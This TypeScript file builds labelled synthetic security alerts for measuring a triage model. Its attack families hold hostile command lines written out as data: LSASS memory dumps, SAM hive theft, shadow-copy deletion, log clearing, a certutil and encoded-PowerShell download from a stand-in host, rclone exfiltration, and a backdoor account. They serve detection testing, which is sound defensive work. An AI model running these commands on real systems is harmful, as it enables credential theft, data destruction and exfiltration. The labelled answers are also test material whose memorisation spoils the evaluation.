/**
 * Labelled alerts for measurements, made from records as Windows, Sysmon and CloudTrail write them and parsed by the
 * product's mappings: attacks, allowed activity that a rule rightly finds, and false positives, each in variants of
 * hosts, people, paths and times. Some attacks show in the command line and others only in their circumstances; some
 * labels cannot be told from the evidence, and then abstaining is right.
 */
import { detectMapping } from '../../../../connectors/index.ts'
import { uuidOf } from '../../../../platform/uuid-text.ts'
import { EventRow } from '../../../../schemas/event-row.ts'
import type { EvidenceEvent } from '../evidence.ts'
import type { ModelFacts } from '../model-facts.ts'
import type { TriageFacts } from '../triage.ts'

export type Label = 'true_positive' | 'false_positive' | 'benign'
export type LabelledAlert = {
  readonly id: string
  readonly family: string
  readonly label: Label
  readonly facts: TriageFacts & ModelFacts
}

type Place = { readonly host: string; readonly user: string; readonly at: string; readonly n: number }
type Raw = Readonly<Record<string, unknown>>
type Past = { readonly attacks: number; readonly no_attacks: number; readonly people: number }
type Family = {
  readonly name: string
  readonly label: Label
  readonly rule: string
  readonly causes?: readonly string[]
  readonly severity: TriageFacts['alert']['severity']
  readonly risk: number
  readonly past?: Past
  /** An address that intelligence knows. */
  readonly known?: string
  readonly records: (place: Place) => readonly Raw[]
}

const SYSTEM = 'C:\\Windows\\System32\\'
const process =
  (image: string, parent: string, line: (place: Place) => string, user?: string) =>
  (place: Place): Raw[] => [
    {
      ...{ Channel: 'Security', EventID: 4688, Hostname: place.host, '@timestamp': place.at },
      ...{ SubjectUserName: user ?? place.user, NewProcessName: image, ParentProcessName: parent },
      ...{ CommandLine: line(place), NewProcessId: `0x${(place.n * 16 + 4).toString(16)}`, ProcessId: '0x2f0' },
    },
  ]
const trail =
  (source: string, name: string, agent: string, more: Raw = {}) =>
  ({ user, at, n }: Place): Raw[] => [
    {
      ...{ eventVersion: '1.08', eventSource: `${source}.amazonaws.com`, eventName: name, eventTime: at },
      ...{ awsRegion: 'eu-central-1', sourceIPAddress: `198.51.100.${(n % 200) + 1}`, userAgent: agent },
      ...{
        userIdentity: { type: 'IAMUser', userName: user, accountId: '111122223333' },
        recipientAccountId: '111122223333',
      },
      ...{ eventID: uuidOf(`${name} ${user} ${n}`), eventType: 'AwsApiCall', requestParameters: more },
    },
  ]
const NOBODY: Past = { attacks: 0, no_attacks: 0, people: 0 }
const KNOWN_GOOD: Past = { attacks: 0, no_attacks: 9, people: 4 }
const CMD = `${SYSTEM}cmd.exe`
const POWERSHELL = `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`

const attack = (
  name: string,
  rule: string,
  severity: Family['severity'],
  records: Family['records'],
  more: Partial<Family> = {},
): Family => {
  return { name, rule, severity, records, label: 'true_positive', risk: 62, ...more }
}
const allowed = (name: string, rule: string, records: Family['records'], more: Partial<Family> = {}): Family => {
  return { name, rule, records, severity: 'medium', label: 'benign', risk: 38, past: KNOWN_GOOD, ...more }
}
const wrong = (name: string, rule: string, records: Family['records'], more: Partial<Family> = {}): Family => {
  return { name, rule, records, severity: 'medium', label: 'false_positive', risk: 30, ...more }
}

const FAMILIES: readonly Family[] = [
  attack(
    'lsass by comsvcs',
    'Memory of LSASS dumped',
    'critical',
    process(
      `${SYSTEM}rundll32.exe`,
      CMD,
      ({ n }) => `rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump ${600 + n} C:\\temp\\${n}.dmp full`,
    ),
  ),
  attack(
    'lsass by procdump',
    'Memory of LSASS dumped',
    'critical',
    process('C:\\temp\\pd.exe', CMD, ({ n }) => `procdump.exe -accepteula -ma lsass.exe C:\\temp\\l${n}.dmp`),
  ),
  attack(
    'shadow copies gone',
    'Shadow copies deleted',
    'high',
    process(`${SYSTEM}vssadmin.exe`, CMD, () => 'vssadmin.exe delete shadows /all /quiet'),
  ),
  attack(
    'encoded download',
    'PowerShell with an encoded command',
    'high',
    process(
      POWERSHELL,
      'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
      ({ n }) =>
        `powershell -nop -w hidden -enc ${Buffer.from(`iwr http://203.0.113.${(n % 250) + 1}/a`, 'utf16le').toString('base64')}`,
    ),
  ),
  attack(
    'certutil download',
    'Download by certutil',
    'high',
    process(
      `${SYSTEM}certutil.exe`,
      CMD,
      ({ n }) =>
        `certutil.exe -urlcache -split -f http://203.0.113.${(n % 250) + 1}/p.exe C:\\Users\\Public\\p${n}.exe`,
    ),
    { known: '203.0.113.9' },
  ),
  attack(
    'registry hives',
    'Registry hives saved',
    'high',
    process(`${SYSTEM}reg.exe`, CMD, ({ n }) => `reg save HKLM\\SAM C:\\ProgramData\\s${n}.hiv`),
  ),
  attack(
    'logs cleared',
    'Event logs cleared',
    'high',
    process(`${SYSTEM}wevtutil.exe`, CMD, () => 'wevtutil.exe cl Security'),
  ),
  attack(
    'rclone to elsewhere',
    'Data copied to a cloud',
    'high',
    process('C:\\ProgramData\\svhost.exe', CMD, ({ n }) => `rclone copy D:\\shares mega:${n} --transfers 32`),
  ),
  attack(
    'wmi from elsewhere',
    'Process started by WMI',
    'high',
    process(
      CMD,
      `${SYSTEM}wbem\\WmiPrvSE.exe`,
      ({ n }) => `cmd.exe /Q /c net user helpdesk${n} P4ss-${n} /add 1> \\\\127.0.0.1\\ADMIN$\\__${n} 2>&1`,
    ),
  ),
  attack(
    'service from a share',
    'Service installed from a share',
    'high',
    process(
      `${SYSTEM}sc.exe`,
      CMD,
      ({ n }) => `sc.exe \\\\dc-${n % 7} create upd${n} binPath= \\\\10.0.0.${n % 200}\\c$\\u.exe`,
    ),
  ),
  attack(
    'script host from mail',
    'Script host started by a mail client',
    'high',
    process(
      `${SYSTEM}wscript.exe`,
      'C:\\Program Files\\Microsoft Office\\OUTLOOK.EXE',
      ({ user, n }) => `wscript.exe C:\\Users\\${user}\\AppData\\Local\\Temp\\invoice_${n}.js`,
    ),
  ),
  attack(
    'tickets for accounts',
    'Many service tickets asked for',
    'high',
    process('C:\\Users\\Public\\r.exe', POWERSHELL, ({ n }) => `r.exe kerberoast /outfile:C:\\temp\\h${n}.txt`),
  ),
  attack(
    'trail stopped',
    'CloudTrail switched off',
    'critical',
    trail('cloudtrail', 'StopLogging', 'aws-cli/2.15 Python/3.11 kali'),
  ),
  attack(
    'administrator attached',
    'Administrator rights attached',
    'high',
    trail('iam', 'AttachUserPolicy', 'Boto3/1.34', { policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }),
  ),
  attack(
    'secrets read',
    'Many secrets read',
    'high',
    trail('secretsmanager', 'GetSecretValue', 'aws-cli/2.15 Python/3.11 parrot', { secretId: 'prod/db' }),
  ),
  attack(
    'dump by a friend',
    'Memory of LSASS dumped',
    'critical',
    process('C:\\tools\\procdump64.exe', CMD, ({ n }) => `procdump64.exe -ma lsass.exe C:\\cases\\${n}.dmp`),
    { past: { attacks: 2, no_attacks: 1, people: 2 } },
  ),
  allowed(
    'backup drops old copies',
    'Shadow copies deleted',
    process(
      `${SYSTEM}vssadmin.exe`,
      'C:\\Program Files\\Backup\\agent.exe',
      () => 'vssadmin.exe delete shadows /for=D: /oldest /quiet',
      'svc_backup',
    ),
    { causes: ['Backup agents that keep a number of copies'] },
  ),
  allowed(
    'deployment in base64',
    'PowerShell with an encoded command',
    process(
      POWERSHELL,
      'C:\\Windows\\CCM\\CcmExec.exe',
      () => `powershell.exe -NonInteractive -EncodedCommand ${Buffer.from('Get-HotFix', 'utf16le').toString('base64')}`,
      'SYSTEM',
    ),
    { causes: ['Software deployment'] },
  ),
  allowed(
    'nightly mirror',
    'Many files copied',
    process(
      `${SYSTEM}robocopy.exe`,
      `${SYSTEM}svchost.exe`,
      ({ n }) => `robocopy D:\\shares \\\\nas7\\nightly${n} /MIR`,
      'svc_backup',
    ),
  ),
  allowed(
    'scanner signs in',
    'Remote commands on many hosts',
    process(`${SYSTEM}cmd.exe`, `${SYSTEM}wbem\\WmiPrvSE.exe`, () => 'cmd.exe /c wmic qfe list', 'svc_scan'),
    { causes: ['Vulnerability scanners'] },
  ),
  allowed(
    'terraform attaches',
    'Administrator rights attached',
    trail('iam', 'AttachRolePolicy', 'APN/1.0 HashiCorp/1.0 Terraform/1.7.5'),
    { causes: ['Infrastructure as code'] },
  ),
  allowed(
    'service desk adds people',
    'Account created',
    process(`${SYSTEM}net.exe`, `${SYSTEM}mmc.exe`, ({ n }) => `net user new${n} /add /domain`, 'adm_desk'),
  ),
  allowed(
    'roots fetched',
    'Download by certutil',
    process(
      `${SYSTEM}certutil.exe`,
      `${SYSTEM}svchost.exe`,
      () => 'certutil.exe -generateSSTFromWU roots.sst',
      'SYSTEM',
    ),
  ),
  allowed(
    'tasks of the updater',
    'Scheduled task created',
    process(
      `${SYSTEM}schtasks.exe`,
      'C:\\Program Files\\Vendor\\updater.exe',
      ({ n }) => `schtasks /create /tn VendorUpdate${n} /sc daily /tr updater.exe`,
    ),
    { past: { attacks: 0, no_attacks: 2, people: 1 } },
  ),
  wrong(
    'a document of that name',
    'A known tool started',
    process(
      'C:\\Program Files\\Notepad++\\notepad++.exe',
      'C:\\Windows\\explorer.exe',
      ({ user, n }) => `notepad++.exe C:\\Users\\${user}\\Documents\\notes-on-kiwi-${n}.txt`,
    ),
  ),
  wrong(
    'a browser update',
    'Executable in a temporary folder',
    process(
      'C:\\Windows\\Temp\\CR_1.tmp\\setup.exe',
      'C:\\Program Files\\Browser\\update.exe',
      ({ n }) => `setup.exe --install-archive=C:\\Windows\\Temp\\CR_${n}.tmp\\BROWSER.PACKED.7Z`,
    ),
  ),
  wrong(
    'a build',
    'Compiler started by a script',
    process(
      'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe',
      POWERSHELL,
      ({ n }) => `csc.exe /noconfig @C:\\agent\\_work\\${n}\\t.cmdline`,
      'build',
    ),
  ),
  wrong(
    'a printer driver',
    'DLL run by rundll32',
    process(
      `${SYSTEM}rundll32.exe`,
      `${SYSTEM}spoolsv.exe`,
      ({ n }) => `rundll32.exe C:\\Windows\\System32\\spool\\DRIVERS\\x64\\3\\drv${n}.dll,PrintUIEntry`,
      'SYSTEM',
    ),
  ),
  wrong(
    'a list of groups',
    'Discovery of groups',
    process(`${SYSTEM}net.exe`, CMD, ({ n }) => `net localgroup "Remote Desktop Users" | find "${n}"`),
  ),
  wrong(
    'reads of its own bucket',
    'Many objects read',
    trail('s3', 'GetObject', 'aws-sdk-java/1.12', { bucketName: 'reports' }),
  ),
  wrong(
    'a ping in a row',
    'Hosts looked for',
    process(`${SYSTEM}PING.EXE`, CMD, ({ n }) => `ping -n ${n % 9} gateway`),
  ),
  wrong(
    'help of a tool',
    'A known tool started',
    process(`${SYSTEM}nltest.exe`, CMD, () => 'nltest /?'),
  ),
]

/** Gives the same number of variants of each family, in an order that depends on that number alone. */
export function labelledAlerts(variants = 11): LabelledAlert[] {
  return FAMILIES.flatMap((family, at) => Array.from({ length: variants }, (_, n) => alertOf(family, at * 100 + n)))
}

const HOSTS = ['fin-lt', 'hr-ws', 'web', 'db', 'dc', 'app', 'jump', 'build']
const PEOPLE = ['ann', 'bo', 'chen', 'dana', 'eve', 'farid', 'gita', 'hugo', 'ines', 'jonas']

function alertOf(family: Family, n: number): LabelledAlert {
  const at = new Date(Date.UTC(2026, 9, 1 + (n % 28), (n * 7) % 24, (n * 13) % 60)).toISOString()
  const host = `${HOSTS[n % HOSTS.length]}-${(n % 37) + 1}`
  const user = PEOPLE[(n * 3) % PEOPLE.length] ?? 'ann'
  const events = family.records({ host, user, at, n }).map((raw, i) => eventOf(raw, `${family.name} ${n} ${i}`))
  return labelledOf(`${family.name} ${n}`, family, events, { hosts: [host], users: [user] })
}

/** A record of whatever source, as the model is shown events of the lake. */
export function eventOf(raw: Raw, of: string): EvidenceEvent {
  const record = structuredClone(raw) as Record<string, unknown>
  const row = new EventRow()
  detectMapping(record).fill(record, row)
  const all: Record<string, string | number> = {
    ...{ at: new Date(row.timeMs).toISOString(), class_uid: row.classUid, from_ip: row.srcIp, to_ip: row.dstIp },
    ...{ pid: row.pid, event_code: row.eventCode, host: row.host, user: row.user, target_user: row.targetUser },
    ...{ process_name: row.processName, parent_name: row.parentName, cmd_line: row.cmdLine, file_path: row.filePath },
    ...{ file_hash: row.fileHash, url: row.url, reg_path: row.regPath, domain: row.domain, message: row.message },
  }
  const filled = Object.entries(all).filter(([, value]) => value !== '' && value !== 0)
  return { uid: uuidOf(of), ...Object.fromEntries(filled) }
}

type About = { readonly hosts: readonly string[]; readonly users: readonly string[] }
type Circumstances = Pick<Family, 'name' | 'label' | 'rule' | 'severity' | 'risk' | 'causes' | 'past' | 'known'>

export function labelledOf(
  id: string,
  family: Circumstances,
  events: readonly EvidenceEvent[],
  { hosts, users }: About,
): LabelledAlert {
  const { label, rule, severity, risk, causes = [], past = NOBODY, known } = family
  const facts: LabelledAlert['facts'] = {
    alert: {
      ...{ title: `${rule} on ${hosts[0] ?? 'a host'}`, severity, risk_score: risk, signals: 1, rules: 1, tactics: [] },
      ...{ hosts, users, ips: known === undefined ? [] : [known] },
    },
    past: { ...past, look_alikes: past.attacks + past.no_attacks + 3 },
    intel: {
      known: known === undefined ? [] : [{ value: known, confidence: 90 }],
      looked_up: known === undefined ? 0 : 1,
    },
    risk: { at_risk: [] },
    rule: {
      rules: [
        { id: uuidOf(rule), title: rule, description: null, legitimate_causes: causes, lines: [], lines_not_shown: 0 },
      ],
      ...{ not_shown: 0, gone: [] },
    },
    events: { outcome: 'answered', named: events.length, not_shown: 0, events },
    history: { days: 30, alerts: [], is_cut: false },
    judged: { judged: [], is_cut: false },
  }
  return { id, family: family.name, label, facts }
}
